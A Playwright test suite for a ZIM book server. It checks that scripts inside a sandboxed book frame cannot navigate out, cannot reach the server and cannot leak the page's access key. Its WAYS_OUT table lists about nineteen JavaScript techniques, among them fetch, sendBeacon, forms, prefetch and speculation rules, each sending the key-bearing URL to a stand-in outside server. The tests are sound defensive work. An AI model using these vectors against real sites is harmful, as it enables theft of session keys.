"""Books that run their scripts in a real browser: nothing leads out of the frame, and a key is of no use elsewhere."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Frame, Page, expect
from tests.browser.chromium import Chromium
from tests.browser.conftest import Served, serving
from tests.browser.other_origin import Elsewhere

from kiwiresearch.zim.book_writer import NewPage, plain_png, write_book

TOKEN = "long-and-secret"
TRY_MS = 500
WAYS_OUT = {
    "location": "location = out;",
    "replace": "location.replace(out);",
    "navigation": "navigation.navigate(out);",
    "open": "open(out, '_self');",
    "window": "open(out);",
    "top": "top.location = out;",
    "parent": "parent.location = out;",
    "link": "follow({href: out});",
    "link_top": "follow({href: out, target: '_top'});",
    "link_blank": "follow({href: out, target: '_blank'});",
    "download": "follow({href: out, download: ''});",
    "refresh": "add('meta', {httpEquiv: 'refresh', content: '0; url=' + out});",
    "form": "add('form', {action: out, method: 'get'}).submit();",
    "frame": "add('iframe', {src: out});",
    "prefetch": "add('link', {rel: 'prefetch', href: out});",
    "fetch": "fetch(out, {mode: 'no-cors'});",
    "beacon": "navigator.sendBeacon(out);",
    "image": "add('img', {src: out});",
    "rules": "add('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{urls: [out]}]})});",
}
PAGE = """<html><head><title>NAME</title></head><body><p id="told">quiet</p><img src="green.png"><script>
const out = 'ELSEWHERE/NAME?' + encodeURIComponent(location.href);
const add = (name, how) => document.body.appendChild(Object.assign(document.createElement(name), how));
const follow = (how) => add('a', how).click();
document.getElementById('told').textContent = 'ran';
addEventListener('load', () => { try { WAY } catch (refused) {} });
</script></body></html>"""

TELLS = """<p id="told">nothing</p><script>
const told = document.getElementById('told');
fetch('/api/health').then(() => 'reached', () => 'shut off').then(fetched => {
  let kept = 'kept';
  try { localStorage.setItem('a', 'b'); } catch (error) { kept = 'refused'; }
  told.textContent = 'ran with origin ' + self.origin + ', the server is ' + fetched + ', storage is ' + kept;
});
</script>"""


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory, other_site: Elsewhere) -> Iterator[Served]:
    """A server with a token, whose book runs scripts that try every way out."""
    home = tmp_path_factory.mktemp("locked")
    source = PAGE.replace("ELSEWHERE", other_site.address)
    pages = [
        NewPage(name, name, source.replace("WAY", way).replace("NAME", name).encode())
        for name, way in (WAYS_OUT | {"calm": ""}).items()
    ]
    pages.append(NewPage("tells", "tells", TELLS.encode()))
    pages.append(NewPage("green.png", "", plain_png(48), "image/png", is_article=False))
    names = {"Name": "ways_en", "Title": "Ways out", "Language": "eng", "Date": "2026-01-01"}
    write_book(home / "ways.zim", pages, [], metadata=names, main_path="calm", index=False)
    settings = {"KIWIRESEARCH_SERVE_SCRIPTS": "true", "KIWIRESEARCH_SERVE_TOKEN": TOKEN}
    with serving(home, str(home / "ways.zim"), **settings) as served:
        served.client.headers["Authorization"] = f"Bearer {TOKEN}"
        yield served


@pytest.fixture
def browser(chromium: Chromium) -> Iterator[Browser]:
    """The browser, at work."""
    with chromium.at_work() as browser:
        yield browser


def signed_in(browser: Browser, served: Served) -> Page:
    """A window of a browser of its own, signed in."""
    page = browser.new_context(base_url=served.address).new_page()
    page.goto("/login")
    page.locator("input[name=token]").fill(TOKEN)
    page.locator("form:has(input[name=token]) button").click()
    page.wait_for_url(f"{served.address}/")
    return page


def framed(page: Page, served: Served, name: str) -> Frame:
    """The frame of a page of the book in its original layout, when it has loaded."""
    page.goto(f"/page/{served.book()}/{name}?layout=original", wait_until="load")
    return page.frames[1]


def test_no_script_of_a_book_leads_out_of_its_frame(browser: Browser, locked: Served, other_site: Elsewhere) -> None:
    """Whatever a script does to load an address of another server, with its key in it, that server is not asked."""
    page = signed_in(browser, locked)
    opened: list[str] = []
    page.context.on("page", lambda one: opened.append(one.url))
    for name in WAYS_OUT:
        framed(page, locked, name)
        page.wait_for_timeout(TRY_MS)
        assert page.url.endswith(f"/{name}?layout=original"), name
        assert (other_site.visited, opened) == ([], []), name
    page.context.close()


def test_a_page_of_a_book_in_a_window_runs_no_script(browser: Browser, locked: Served, other_site: Elsewhere) -> None:
    """A page that is opened by itself, with its key or without, is shown without its scripts and its key."""
    page = signed_in(browser, locked)
    key = framed(page, locked, "calm").url
    assert "~" in key
    assert page.frames[1].locator("#told").inner_text() == "ran"
    for address in (key, key.replace("calm", "location"), f"/read/{locked.book()}/location"):
        page.goto(address, wait_until="load")
        page.wait_for_timeout(TRY_MS)
        assert page.locator("#told").inner_text() == "quiet"
        assert "~" not in page.url
    assert other_site.visited == []
    page.context.close()


def test_pictures_of_a_page_load_with_and_without_scripts(browser: Browser, locked: Served) -> None:
    """The cookie lets in what a page loads, and the key what a page with scripts loads, which has no origin."""
    page = signed_in(browser, locked)
    wide = "document.querySelector('img[src$=\"green.png\"]').naturalWidth"
    assert framed(page, locked, "calm").evaluate(wide) == 48
    page.goto(f"/read/{locked.book()}/calm", wait_until="load")
    assert page.evaluate(wide) == 48
    page.context.close()


def test_a_key_is_of_no_use_in_another_browser(browser: Browser, locked: Served) -> None:
    """Another browser gets 403 for what the key is for, and the sign-in page in place of the page."""
    page = signed_in(browser, locked)
    key = framed(page, locked, "calm").url
    page.context.close()
    other = browser.new_context(base_url=locked.address, user_agent="Another browser").new_page()
    other.goto(key)
    assert "/login" in other.url
    with other.expect_response("**/green.png") as answer:
        other.evaluate("(from) => { new Image().src = from; }", key.replace("calm", "green.png"))
    assert answer.value.status == 403
    other.context.close()


def test_scripts_of_a_book_have_no_origin(browser: Browser, locked: Served) -> None:
    """Scripts reach neither the server nor anything that it keeps in the browser."""
    page = signed_in(browser, locked)
    told = framed(page, locked, "tells").locator("#told")
    expect(told).to_have_text("ran with origin null, the server is shut off, storage is refused")
    page.context.close()
